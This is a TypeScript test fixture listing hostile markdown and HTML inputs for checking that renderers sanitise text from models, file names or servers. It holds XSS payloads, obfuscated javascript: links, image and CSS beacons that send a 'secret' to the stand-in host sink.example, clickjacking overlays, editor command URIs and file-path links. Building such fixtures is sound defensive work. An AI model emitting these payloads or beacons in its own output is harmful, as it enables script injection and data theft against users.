// What a hostile model, file name or server may put into a text. Our own collection, by the ways in which renderers were broken.

const sink = 'https://sink.example/steal?q=secret';

export const hostileMarkdown: readonly string[] = [
  `![x](${sink})`, `![x][r]\n\n[r]: ${sink}`, `[![x](${sink})](${sink})`, `<${sink}>`, sink, `![x](data:text/html,<script>alert(1)</script>)`,
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', `<img src="${sink}">`, `<video poster="${sink}"></video>`, `<iframe src="${sink}"></iframe>`, '<svg onload=alert(1)>', '<svg><use href="data:x"/></svg>', '<math><mi href="javascript:alert(1)">x</mi></math>',
  `<link rel=prefetch href="${sink}">`, `<base href="${sink}">`, `<meta http-equiv=refresh content="0;url=${sink}">`, `<form action="${sink}"><input name=a><button>Allow</button></form>`, `<object data="${sink}"></object>`, `<style>@import "${sink}";</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:url(${sink})">Approve</div>`, '<button style="position:fixed">Allow</button>', '<details open ontoggle=alert(1)>', '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java&#115;cript:alert(1))', '[x](javascript&colon;alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](\u0001javascript:alert(1))', '[x](java%0ascript:alert(1))', '[x](vbscript:x)', '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[Fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)', '[x](vscode://file/etc/passwd)', '[x](vscode-insiders:x)', '[x](file:///etc/passwd)', '[x](smb://host/share)', '[x](\\\\\\\\host\\\\share)', '[x](ms-settings:a)', '[x](//sink.example/x)',
  '[docs.example](https://sink.example)', '[https://docs.example](https://sink.example)', '[\u202egnp.exe](https://sink.example)', '<javascript:alert(1)>', '<command:x>', `[x](${sink} "onmouseover=alert(1)")`, '[x]("onclick=alert(1))',
  '```js" onload="alert(1)\nx\n```', '```<img src=x onerror=alert(1)>\nx\n```', '```html\n<script>alert(1)</script>\n```', `\`\`\`css\nbody{background:url(${sink})}\n\`\`\``, '~~~ "><script>alert(1)</script>\nx\n~~~', '`<img src=x onerror=alert(1)>`',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| ![x](https://sink.example/a) | <b onclick=alert(1)>x</b> |', '# <img src=x onerror=alert(1)>', '- [ ] <input onfocus=alert(1) autofocus>', '> <script>alert(1)</script>', '1. <iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://sink.example/x}$$', '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```',
  '[^1]\n\n[^1]: ![x](https://sink.example/foot)', '&lt;script&gt;alert(1)&lt;/script&gt;', '\u0000<script>alert(1)</script>', '<scr\u0000ipt>alert(1)</script>', '{{constructor.constructor("alert(1)")()}}', '__proto__', '<x contenteditable onblur=alert(1)>', '<template><script>alert(1)</script></template>', 'a\u200bb\u202ec\u2066d',
];
